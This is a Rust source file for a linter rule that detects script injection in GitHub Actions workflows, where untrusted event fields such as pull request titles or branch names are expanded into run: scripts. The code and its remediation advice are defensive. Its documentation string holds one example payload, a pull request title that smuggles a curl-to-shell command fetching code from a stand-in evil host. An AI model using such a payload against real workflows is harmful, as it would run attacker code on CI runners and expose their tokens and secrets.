//! PL-GHA-005 `script-injection`: no attacker-controlled `${{ github.event.* }}` field is expanded
//! into a script.

use serde_json::Value;

use super::workflow::{Step, expressions, jobs};
use crate::{DocumentRule, Hit, RuleDoc, Severity, Target};

/// The rule.
pub const RULE: DocumentRule = DocumentRule {
    doc: RuleDoc {
        id: "PL-GHA-005",
        name: "script-injection",
        severity: Severity::Error,
        target: Target::GithubActions,
        summary: "`run:` scripts (and `actions/github-script` scripts) do not expand untrusted event fields",
        doc: DOC,
        equivalents: &["checkov:CKV_GHA_2", "actionlint:expression (untrusted inputs)", "zizmor:template-injection"],
    },
    check,
};

const DOC: &str = r#"## What
A `run:` script, or the `script` input of `actions/github-script`, contains a `${{ … }}`
expression that reads a field anyone can write: the title or body of an issue, pull request,
discussion, comment or review; commit messages and author names and e-mails; branch names
(`github.head_ref`, `github.event.pull_request.head.ref`, `…head.label`,
`github.event.workflow_run.head_branch`); GitHub Pages page names.

## Why
`${{ }}` is expanded into the script text before the shell runs it. A pull request titled
``a"; curl -sSf https://evil.example/x | sh; echo "`` runs that command on the runner, with the
job's token and secrets. Branch names may contain `$(…)` too.

## Fix
Pass the value through an environment variable, which the shell treats as data, and quote it:

```yaml
- name: Greet
  env:
    TITLE: ${{ github.event.pull_request.title }}
  run: echo "Checking: $TITLE"
```

## References
- GitHub: [Security hardening: understanding the risk of script injections](https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections)
- GitHub Security Lab: [Untrusted input](https://securitylab.github.com/resources/github-actions-untrusted-input/)
- Checkov `CKV_GHA_2`; actionlint "Script injection by potentially untrusted inputs" (reported as
  `expression`); zizmor `template-injection`
"#;

/// Context paths (lowercase, `*` for any one segment) whose values an outsider controls; longer
/// paths below them (`…head_commit.author.name`) are covered.
const UNTRUSTED: &[&str] = &[
    "github.head_ref",
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.pages.*.page_name",
    "github.event.head_commit.message",
    "github.event.head_commit.author",
    "github.event.head_commit.committer",
    "github.event.commits.*.message",
    "github.event.commits.*.author",
    "github.event.commits.*.committer",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_commit.message",
    "github.event.workflow_run.head_commit.author",
    "github.event.workflow_run.pull_requests.*.head.ref",
];

/// The context paths an expression reads, normalised: lowercase, indexing (`[0]`, `['x']`) as `*`.
fn paths(expression: &str) -> Vec<String> {
    let mut normal = String::new();
    let mut in_index = false;
    for c in expression.chars() {
        match c {
            '[' => {
                in_index = true;
                normal.push_str(".*");
            }
            ']' => in_index = false,
            _ if in_index => {}
            _ => normal.push(c.to_ascii_lowercase()),
        }
    }
    normal
        .split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | '*')))
        .filter(|token| token.starts_with("github."))
        .map(str::to_owned)
        .collect()
}

/// Whether `path` is, or is below, an untrusted path.
fn is_untrusted(path: &str) -> bool {
    let segments: Vec<&str> = path.split('.').collect();
    UNTRUSTED.iter().any(|pattern| {
        let pattern: Vec<&str> = pattern.split('.').collect();
        segments.len() >= pattern.len() && pattern.iter().zip(&segments).all(|(p, s)| *p == "*" || p == s)
    })
}

/// The scripts of a step: its `run:`, and the `script` input of `actions/github-script`.
fn scripts<'a>(step: &Step<'a>) -> Vec<(String, &'a str)> {
    let mut out: Vec<(String, &str)> = step.run().map(|run| (step.at("run"), run)).into_iter().collect();
    if step.uses_action("actions/github-script") {
        out.extend(step.with("script").and_then(Value::as_str).map(|script| (step.at("with/script"), script)));
    }
    out
}

fn check(doc: &Value, hits: &mut Vec<Hit>) {
    for job in jobs(doc) {
        for step in job.steps() {
            for (pointer, script) in scripts(&step) {
                for expression in expressions(script) {
                    if paths(expression).iter().any(|path| is_untrusted(path)) {
                        hits.push(Hit::new(
                            pointer.clone(),
                            format!("{} runs untrusted ${{{{ {expression} }}}}", step.describe()),
                        ));
                    }
                }
            }
        }
    }
}
